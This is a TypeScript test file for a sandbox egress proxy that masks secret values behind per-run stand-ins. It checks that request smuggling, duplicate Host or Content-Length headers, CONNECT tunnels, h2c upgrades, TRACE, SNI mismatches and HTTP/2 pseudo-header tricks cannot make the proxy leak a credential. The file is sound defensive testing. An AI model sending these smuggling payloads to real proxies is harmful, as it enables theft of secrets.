import { connect as connectHttp2 } from 'node:http2'
import { describe, expect, it } from 'vitest'
import { maskSecrets, mergeSecretUses } from '../../../../src/core/runs/network/masked-secrets.ts'
import { readDeclaredSecrets } from '../../../../src/core/skills/manifest/secret-use.ts'
import { openClient } from './egress-fixture.ts'
import { API, buildRequest, openMasked, OTHER, sendOver, VALUE } from './masking-fixture.ts'

type Opened = Awaited<ReturnType<typeof openMasked>>

const HIDDEN = VALUE.slice(8, 24)

/** Each attack sends the stand-in in a request that must not reach a server with the value. */
const ATTACKS: Record<string, (opened: Opened) => Promise<string>> = {
  'another name in Host': async ({ send, standIn, port }) =>
    await send(buildRequest(['GET / HTTP/1.1', bearer(standIn)], '', `${OTHER}:${port}`)),
  'two Host headers': async ({ send, standIn, port }) =>
    await send(
      buildRequest(['GET / HTTP/1.1', `Host: ${OTHER}`, bearer(standIn)], '', `${API}:${port}`),
    ),
  'no Host header': async ({ send, standIn }) =>
    await send(`GET / HTTP/1.1\r\nConnection: close\r\n${bearer(standIn)}\r\n\r\n`),
  'an absolute address in the request line': async ({ send, standIn, port }) =>
    await send(
      buildRequest(
        [`GET https://${OTHER}:${port}/ HTTP/1.1`, bearer(standIn)],
        '',
        `${API}:${port}`,
      ),
    ),
  'another port in Host': async ({ send, standIn, port }) =>
    await send(buildRequest(['GET / HTTP/1.1', bearer(standIn)], '', `${API}:${port + 1}`)),
  'both a length and chunks': async ({ send, standIn, port }) =>
    await send(
      `POST / HTTP/1.1\r\nHost: ${API}:${port}\r\n${bearer(standIn)}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ${OTHER}\r\n\r\n`,
    ),
  'two lengths': async ({ send, standIn, port }) =>
    await send(
      `POST / HTTP/1.1\r\nHost: ${API}:${port}\r\n${bearer(standIn)}\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ${OTHER}\r\n\r\n`,
    ),
  'a chunked coding that is written twice': async ({ send, standIn, port }) =>
    await send(
      `POST / HTTP/1.1\r\nHost: ${API}:${port}\r\n${bearer(standIn)}\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n`,
    ),
  'a line feed in place of the end of a line': async ({ send, standIn, port }) =>
    await send(`GET / HTTP/1.1\nHost: ${OTHER}:${port}\n${bearer(standIn)}\n\n`),
  'CONNECT within the connection': async ({ send, standIn, port }) =>
    await send(
      buildRequest([`CONNECT ${OTHER}:${port} HTTP/1.1`, bearer(standIn)], '', `${API}:${port}`),
    ),
  'a switch to another protocol': async ({ send, standIn, port }) =>
    await send(
      `GET / HTTP/1.1\r\nHost: ${API}:${port}\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n${bearer(standIn)}\r\n\r\n`,
    ),
  TRACE: async ({ send, standIn, port }) =>
    await send(buildRequest(['TRACE / HTTP/1.1', bearer(standIn)], '', `${API}:${port}`)),
  'a tunnel to the address of the host': async ({ proxy, port, standIn }) =>
    await tunnel(proxy, `127.0.0.1:${port}`, standIn),
  'a tunnel to another port': async ({ proxy, port, standIn }) =>
    await tunnel(proxy, `${API}:${port + 1}`, standIn),
  'plain HTTP through the proxy': async ({ proxy, port, standIn }) => {
    const { send } = await openClient(proxy)
    return await send(
      `GET http://${API}:${port}/ HTTP/1.1\r\nHost: ${API}:${port}\r\n${bearer(standIn)}\r\n\r\n`,
      '\r\n\r\n',
    )
  },
  'a stand-in in the name of a host': async ({ proxy, port, standIn }) =>
    await tunnel(proxy, `${standIn}.example.test:${port}`, standIn),
  'a header with a line break after the stand-in': async ({ send, standIn, port }) =>
    await send(
      buildRequest(['GET / HTTP/1.1', `X-Other: ${standIn}\r\n folded`], '', `${API}:${port}`),
    ),
}

describe('no attack gets the value', () => {
  it.each(Object.entries(ATTACKS))('%s', async (_name, attack) => {
    const opened = await openMasked(['header:Authorization'])
    const said = await attack(opened)
    const leaked = opened.requests.filter((request) => JSON.stringify(request).includes(HIDDEN))
    expect(leaked).toEqual([])
    expect(said).not.toContain(HIDDEN)
    expect(said).not.toMatch(/^HTTP\/1\.1 200/)
  })

  it('and the plain request does get it to the server, as a control', async () => {
    const { send, port, requests, standIn } = await openMasked(['header:Authorization'])
    await send(buildRequest(['GET / HTTP/1.1', bearer(standIn)], '', `${API}:${port}`))
    expect(requests[0]?.headers['authorization']).toBe(`Bearer ${VALUE}`)
  })

  it.each([
    [':authority', { ':authority': OTHER }],
    [':scheme', { ':scheme': 'http' }],
    [
      'CONNECT',
      { ':method': 'CONNECT', ':authority': API, ':path': undefined, ':scheme': undefined },
    ],
    ['a host header besides', { host: OTHER, ':authority': OTHER }],
  ])('over HTTP/2: %s', async (_name, headers) => {
    const { port, open, requests, standIn } = await openMasked(['header:authorization'])
    const socket = await open(API, ['h2'])
    const session = connectHttp2(`https://${API}:${port}`, { createConnection: () => socket })
    const stream = session.request({ ':path': '/', authorization: `Bearer ${standIn}`, ...headers })
    stream.end()
    const status = await new Promise((resolve) => {
      stream.on('response', (answer) => resolve(answer[':status']))
      stream.on('error', () => resolve('error'))
      stream.on('close', () => resolve('closed'))
    })
    session.destroy()
    expect(status).not.toBe(200)
    expect(requests).toEqual([])
  })

  it('by a server name that differs from the tunnel', async () => {
    const { proxy, port, standIn, requests } = await openMasked(['header:Authorization'])
    const { socket, send } = await openClient(proxy)
    await send(`CONNECT ${API}:${port} HTTP/1.1\r\nHost: ${API}:${port}\r\n\r\n`, '\r\n\r\n')
    socket.removeAllListeners('data')
    const { connect } = await import('node:tls')
    const secure = connect({ socket, servername: OTHER, rejectUnauthorized: false })
    await sendOver(secure, buildRequest(['GET / HTTP/1.1', bearer(standIn)], '', `${API}:${port}`))
    expect(requests).toEqual([])
  })

  it('by a server whose certificate is not trusted', async () => {
    const { port, send, requests, standIn, decisions } = await openMasked(
      ['header:Authorization'],
      { certificates: '' },
    )
    const head = ['GET / HTTP/1.1', bearer(standIn)]
    const said = await send(buildRequest(head, '', `${API}:${port}`))
    expect(said).toMatch(/^HTTP\/1\.1 502 api\.example\.test: TLS: /)
    expect(requests).toEqual([])
    expect(decisions.at(-1)).toMatchObject({ reason: 'unreachable' })
  })

  it('with a stand-in of another run', async () => {
    const first = await openMasked(['header:Authorization'])
    const { port, send, requests, standIn } = await openMasked(['header:Authorization'], {
      scope: 'next',
    })
    expect(first.standIn).not.toBe(standIn)
    await send(buildRequest(['GET / HTTP/1.1', bearer(first.standIn)], '', `${API}:${port}`))
    expect(requests[0]?.headers['authorization']).toBe(`Bearer ${first.standIn}`)
  })

  it('split over several headers, or in another case', async () => {
    const { port, send, requests, standIn } = await openMasked(['header:Authorization'])
    const half = standIn.length / 2
    const lines = [`Authorization: ${standIn.slice(0, half)}`, `X-Rest: ${standIn.slice(half)}`]
    await send(buildRequest(['GET / HTTP/1.1', ...lines], '', `${API}:${port}`))
    await send(
      buildRequest(['GET / HTTP/1.1', bearer(standIn.toUpperCase())], '', `${API}:${port}`),
    )
    expect(JSON.stringify(requests)).not.toContain(HIDDEN)
  })
})

describe('two secrets', () => {
  it('have stand-ins of their own, which hosts of the other refuse', async () => {
    const values = new Map([
      ['A', 'value-of-a-0123456789'],
      ['B', 'value-of-b-0123456789'],
    ])
    const uses = new Map([
      ['A', { hosts: [`https://${API}`], in: ['body', 'header:authorization'] }],
      ['B', { hosts: [`https://${OTHER}`], in: ['body', 'header:authorization'] }],
    ])
    const { masked, variables } = maskSecrets(values, uses, 'run')
    const { RequestMask } =
      await import('../../../../src/core/sandbox/egress/masking/request-mask.ts')
    const mask = new RequestMask(masked, { scheme: 'https', host: API, port: 443 })
    const head = mask.unmaskHead({ path: `/?x=${variables['B']}`, headers: [] }, () => {})
    expect(head).toEqual({ reason: 'secret-elsewhere', message: `B was sent to ${API}: refused` })
    const { replaceBytes } = await import('../../../../src/core/sandbox/egress/masking/replacer.ts')
    const { TextSearch } =
      await import('../../../../src/core/sandbox/egress/masking/text-search.ts')
    const search = new TextSearch(mask.listBodyReplacements('text/plain', false))
    expect(() => replaceBytes(Buffer.from(`x ${variables['B']}`), search, mask.checkFound)).toThrow(
      'B was sent to',
    )
    expect(
      replaceBytes(Buffer.from(`x ${variables['A']}`), search, mask.checkFound).toString(),
    ).toBe('x value-of-a-0123456789')
  })

  it('of two skills are inside if one of them names no hosts', () => {
    const use = { hosts: [`https://${API}`], in: ['body'] }
    const uses = mergeSecretUses([
      { secrets: ['A', 'B'], secretUses: { A: use, B: use } },
      { secrets: ['B'] },
    ])
    expect([...uses.keys()]).toEqual(['A'])
  })
})

describe('a manifest', () => {
  it.each([
    [{ A: 'http://api.example.test' }, 'https requests only'],
    [{ A: 'https://*.com' }, 'many owners'],
    [{ A: 'api.example.test' }, 'without https://'],
    [{ A: { hosts: ['https://a.example'], in: ['header:Host'] } }, 'header:Host'],
    [
      { A: { hosts: ['https://a.example'], in: ['header:Transfer-Encoding'] } },
      'header:Transfer-Encoding',
    ],
    [{ A: { hosts: ['https://a.example'], in: ['everywhere'] } }, 'everywhere'],
    [{ A: { hosts: ['https://a.example'], into: ['body'] } }, 'into'],
    [{ A: { in: ['body'] } }, 'without hosts'],
    [{ A: 1 }, 'no valid hosts'],
  ])('is refused for %j', (written, problem) => {
    expect(
      readDeclaredSecrets(written)
        .problems.map(({ message }) => message)
        .join(),
    ).toContain(problem)
  })
})

function bearer(standIn: string): string {
  return `Authorization: Bearer ${standIn}`
}

async function tunnel(proxy: number, authority: string, standIn: string): Promise<string> {
  const { send } = await openClient(proxy)
  return await send(
    `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\nX: ${standIn}\r\n\r\n`,
    '\r\n\r\n',
  )
}
